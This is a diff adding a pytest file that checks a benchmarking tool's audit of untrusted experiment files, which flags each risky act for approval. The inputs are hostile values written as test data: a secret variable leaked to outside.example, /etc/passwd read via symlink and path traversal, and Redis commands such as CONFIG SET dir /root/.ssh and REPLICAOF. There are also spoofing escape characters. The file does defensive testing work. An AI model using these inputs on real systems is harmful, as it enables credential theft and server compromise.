@@ -1,0 +1,265 @@
+"""What a stranger's experiment would do here is listed: each way to start, to connect, to read and to send."""
+
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from loadstone.conduct.trust.acts import Act, acts_of
+from loadstone.init import write_experiment
+from loadstone.options import RunOptions, requested_experiment, requested_plan
+from loadstone.spec.built_in import names
+
+EXPERIMENT = """\
+name: stranger
+question: What does a stranger's file do?
+factors:
+  size:
+    levels: [10 B, 20 B]
+    values:
+      10 B: {part: CANARY, option: password_env=CANARY, open: "{env:CANARY}"}
+      20 B: {part: CANARY, option: password_env=CANARY, open: "{env:CANARY}"}
+tables:
+  - {name: t, title: T, vary: {size: [10 B, 20 B]}}
+servers:
+  redis: {kind: embedded}
+workload:
+  target: redis
+  model: {kind: closed, users: 2}
+  pool: {connections: 2}
+  phases: {measure_s: 100 ms}
+  documents: {payload_bytes: "${size}"}
+  operations:
+    - {name: set, commands: [{args: "SET {key} {value}", expect: ok}]}
+"""
+SUBJECT = """\
+name: app
+build: {commands: ["sh -c 'touch built'"], inputs: [source.txt], output: built}
+run: {command: "sh -c 'touch started; exec sleep 9'"}
+requires: {sh: "1"}
+jvm_flags: ["-javaagent:theirs.jar"]
+environment: {TOKEN: "${env:CANARY}"}
+tables: {db: ../schema.sql}
+"""
+VALUE = "c4naryValue99"
+OPERATIONS = '    - {name: set, commands: [{args: "SET {key} {value}", expect: ok}]}\n'
+REQUESTS = "    - {name: get, requests: [{path: /, HOW}]}\n"
+WEB = "subjects:\n  web: {url: 'http://outside.example'}\n"
+Changes = dict[str, str]
+
+
+def over_http(how: str = "expect: {status: 200}", subject: str = WEB) -> Changes:
+    target = subject.split("\n")[1].split(":")[0].strip()
+    return {
+        OPERATIONS: REQUESTS.replace("HOW", how),
+        "  target: redis\n": f"  target: {target}\n  protocol: http1\n",
+        "workload:\n": f"{subject}workload:\n",
+    }
+
+
+def servers(more: str) -> Changes:
+    return {"  redis: {kind: embedded}\n": f"  redis: {{kind: embedded}}\n  other: {more}\n"}
+
+
+ActsOf = Callable[..., list[Act]]
+
+
+@pytest.fixture
+def acts(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> ActsOf:
+    monkeypatch.setenv("CANARY", VALUE)
+    folder = tmp_path / "theirs"
+    folder.mkdir()
+    (folder / "subject.yaml").write_text(SUBJECT)
+    (folder / "source.txt").write_text("source")
+    (tmp_path / "schema.sql").write_text("CREATE TABLE t (id INT);\nSELECT 1 INTO OUTFILE '/tmp/theirs';")
+    (folder / "link.csv").symlink_to("/etc/passwd")
+
+    def found(changes: Changes, **options: object) -> list[Act]:
+        text = EXPERIMENT
+        for old, new in changes.items():
+            assert old in text
+            text = text.replace(old, new)
+        (folder / "x.yaml").write_text(text)
+        wanted = RunOptions(experiment=str(folder / "x.yaml"), seed=1, **options)  # type: ignore[arg-type]
+        experiment = requested_experiment(wanted)
+        return acts_of(experiment, requested_plan(experiment, wanted), wanted.secret_files)
+
+    return found
+
+
+APP = "subjects:\n  app: {manifest: subject.yaml}\n"
+OUTSIDE = "http://outside.example (subject web)"
+
+
+@pytest.mark.parametrize(
+    ("changes", "line"),
+    [
+        (over_http(subject=APP), "starts sh -c 'touch started; exec sleep 9', with jvm_flags -javaagent:theirs.jar"),
+        (over_http(subject=APP), "starts sh, to learn their versions (subject app)"),
+        (over_http(subject=APP), "builds by sh -c 'touch built' (subject app"),
+        (over_http(subject=APP), "sets for a program TOKEN=${env:CANARY} (subject app)"),
+        (over_http(subject=APP), "sends the variable CANARY to the program of subject app"),
+        (
+            {**over_http(subject=APP), **servers("{kind: mariadb}"), "  other:": "  db:"},
+            "sends to a server db: SELECT 1 INTO OUTFILE '/tmp/theirs'",
+        ),
+        (
+            over_http(subject=APP.replace("yaml}", "yaml, environment: {A: '${env:CANARY}'}}")),
+            "sets for a program TOKEN=${env:CANARY} A=${env:CANARY}",
+        ),
+        (
+            over_http(subject="subjects:\n  app: {manifest: spring, environment: {JAVA_TOOL_OPTIONS: -javaagent:x}}\n"),
+            "sets for a program JAVA_TOOL_OPTIONS=-javaagent:x (application spring, subject app)",
+        ),
+        (over_http(), f"connects to {OUTSIDE}"),
+        (
+            over_http("headers: {X: 'a ${env:CANARY}'}"),
+            "sends the variable CANARY to subject web (http://outside.example)",
+        ),
+        (over_http("headers: {X: '${env:${size.part}}'}"), "sends the variable CANARY to subject web"),
+        (over_http("headers: {X: 'a $${size.open}'}"), "sends the variable CANARY to subject web"),
+        (over_http("body: '${env:CANARY}', method: POST"), "sends the variable CANARY to subject web"),
+        (
+            over_http(subject="subjects:\n  web: {url: 'http://u:${env:CANARY}@outside.example'}\n"),
+            "sends the variable CANARY to subject web (http://u:${env:CANARY}@outside.example)",
+        ),
+        (
+            over_http(subject="subjects:\n  web: {url: 'http://${env:CANARY}.outside.example'}\n"),
+            "connects to http://${env:CANARY}.outside.example",
+        ),
+        (
+            servers("{kind: url, url: 'redis://u:${env:CANARY}@outside.example'}"),
+            "sends the variable CANARY to server other",
+        ),
+        (
+            servers("{kind: url, url: 'redis://outside.example?${size.option}'}"),
+            "sends the variable CANARY to server other",
+        ),
+        (
+            servers("{kind: url, url: 'redis://outside.example?password%5fenv=CANARY'}"),
+            "sends the variable CANARY to server other",
+        ),
+        (
+            servers("{kind: url, url: 'redis+sentinel://localhost,outside.example/main?sentinel_password_env=CANARY'}"),
+            "sends the variable CANARY to server other (redis+sentinel://localhost,outside.example/main",
+        ),
+        (
+            servers("{kind: url, url: 'redis://outside.example?cluster=yes'}"),
+            "connects to redis://outside.example?cluster=yes (server other), and to the servers that it names",
+        ),
+        (
+            servers("{kind: mariadb-url, url: 'mariadb://u:p4ss@outside.example/x'}"),
+            "connects to mariadb://***@outside.example/x (server other)",
+        ),
+        (servers("{kind: process, binary: ./evil}"), "starts ./evil (binary of server other)"),
+        (servers("{kind: process, json_module: /tmp/evil.so}"), "starts /tmp/evil.so (json_module of server other)"),
+        (servers("{kind: mariadb, folder: ../evil}"), "starts ../evil (folder of server other)"),
+        (servers("{kind: container, image: evil/redis}"), "runs the image evil/redis as server other"),
+        (
+            servers("{kind: embedded, settings: {enable-debug-command: 'yes'}}"),
+            "sets on a server other: enable-debug-command: yes",
+        ),
+        (
+            servers("{kind: mariadb, settings: {slow_query_log_file: /root/.profile}}"),
+            "sets on a server other: slow_query_log_file: /root/.profile",
+        ),
+        (servers("{kind: postgresql, settings: {jit_provider: evil}}"), "sets on a server other: jit_provider: evil"),
+        (
+            {'"SET {key} {value}", expect: ok': '"MIGRATE outside.example 6379 {key} 0 100"'},
+            "sends to a server redis: MIGRATE outside.example",
+        ),
+        (
+            {'"SET {key} {value}", expect: ok': '"CONFIG SET dir /root/.ssh"'},
+            "sends to a server redis: CONFIG SET dir /root/.ssh",
+        ),
+        (
+            {'"SET {key} {value}", expect: ok': "\"EVAL 'return 1' 0\""},
+            "sends to a server redis: EVAL 'return 1' 0",
+        ),
+        (
+            {'"SET {key} {value}", expect: ok': '"GRAPH.QUERY {key} x"'},
+            "sends to a server redis: GRAPH.QUERY {key} x",
+        ),
+        (
+            {'"SET {key} {value}", expect: ok': '"REPLICAOF outside.example 6379"'},
+            "sends to a server redis: REPLICAOF outside.example 6379",
+        ),
+        (
+            {**over_http(), "  documents:": "  data: {path: link.csv}\n  documents:"},
+            "link.csv (which is /etc/passwd), row by row, to subject web (http://outside.example)",
+        ),
+        (
+            {**over_http(), "  documents:": "  data: {path: ../../../../../../../../etc/passwd}\n  documents:"},
+            "/etc/passwd), row by row, to subject web (http://outside.example)",
+        ),
+    ],
+)
+def test_each_act_is_listed_and_asks(acts: ActsOf, changes: Changes, line: str) -> None:
+    found = acts(changes)
+    (named, *_) = [act for act in found if line in act.line] or [None]
+    assert named is not None, [act.line for act in found]
+    assert named.asks
+    assert not named.typed
+    assert VALUE not in "".join(act.line for act in found)
+
+
+@pytest.mark.parametrize(
+    ("changes", "line"),
+    [
+        ({}, "starts its own embedded as server redis"),
+        (servers("{kind: url, url: 'redis://u:${env:CANARY}@localhost'}"), "sends the variable CANARY to server other"),
+        (servers("{kind: url, url: 'unix:///run/redis.sock'}"), "connects to unix:///run/redis.sock"),
+        (over_http(subject="subjects:\n  web: {url: 'http://127.0.0.1:8080'}\n"), "connects to http://127.0.0.1:8080"),
+        (
+            servers("{kind: process, settings: {maxmemory: 100mb, save: '60 1000', appendonly: 'yes'}}"),
+            "starts its own process as server other",
+        ),
+        (
+            over_http(subject="subjects:\n  app: {manifest: spring, environment: {SUBJECT_STORE: redis-json}}\n"),
+            "starts its own application spring",
+        ),
+        ({'"SET {key} {value}", expect: ok': '"HSET other{key} f {value}"'}, "starts its own embedded"),
+    ],
+)
+def test_what_stays_on_this_machine_does_not_ask(acts: ActsOf, changes: Changes, line: str) -> None:
+    found = acts(changes)
+    assert [act for act in found if line in act.line]
+    assert not [act.line for act in found if act.asks]
+
+
+def test_the_most_dangerous_comes_first_on_one_line_each(acts: ActsOf) -> None:
+    hostile = servers('{kind: process, binary: "/bin/e\\e[2Jvil\\u202e\\n  connects to localhost"}')
+    found = acts({**over_http(subject=APP), **hostile})
+    assert [act.kind for act in found][:4] == ["starts", "starts", "starts", "builds"]
+    assert found[0].what == "/bin/e\\x1b[2Jvil\\u202e\\n  connects to localhost (binary of server other)"
+    assert all(act.line.isprintable() for act in found)
+
+
+def test_a_value_that_was_filled_in_gives_way_to_its_name(acts: ActsOf, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("CANARY", "zq")  # too short to be searched for in every text
+    lines = [act.line for act in acts(servers("{kind: process, binary: '/opt/${env:CANARY}/redis'}"))]
+    assert "starts /opt/${env:CANARY}/redis (binary of server other)" in lines
+
+
+def test_what_the_user_typed_is_their_own_word(acts: ActsOf) -> None:
+    typed = acts({}, servers=("redis=redis://u:${env:CANARY}@outside.example",))
+    assert {act.kind for act in typed if act.asks} == {"sends the variable", "connects to"}
+    assert all(act.typed for act in typed if act.asks)
+    theirs = acts(over_http("headers: {X: '${env:CANARY}'}"), subjects=("http://mine.example",))
+    assert [act.line for act in theirs if act.asks and not act.typed] == [
+        "sends the variable CANARY to subject web (http://mine.example)"
+    ]
+
+
+@pytest.mark.parametrize("mode", [{}, {"quick": True}])
+@pytest.mark.parametrize("name", [*names(), "made.yaml"])
+def test_built_in_experiments_and_the_first_one_ask_nothing(
+    name: str, mode: dict[str, bool], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    write_experiment(Path("made.yaml"))
+    options = RunOptions(experiment=name, seed=1, **mode)  # type: ignore[arg-type]
+    experiment = requested_experiment(options)
+    found = acts_of(experiment, requested_plan(experiment, options))
+    assert found
+    assert not [act.line for act in found if act.asks]
